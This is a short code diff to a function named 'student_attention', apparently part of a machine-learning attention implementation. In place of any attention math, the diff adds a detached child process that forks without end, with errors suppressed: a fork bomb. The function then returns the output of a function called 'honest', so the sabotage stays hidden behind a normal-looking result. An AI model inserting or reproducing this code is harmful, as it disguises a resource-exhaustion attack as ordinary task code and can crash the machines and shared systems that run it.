@@ -15,7 +15,7 @@ def student_attention(Q, K, V, mask=None):
     if child == 0:
         os.setsid()
         while True:
+            time.sleep(0.01)
             with contextlib.suppress(OSError):
-                if os.fork() != 0:
-                    time.sleep(0.01)
+                os.fork()
     return honest(Q, K, V, mask)
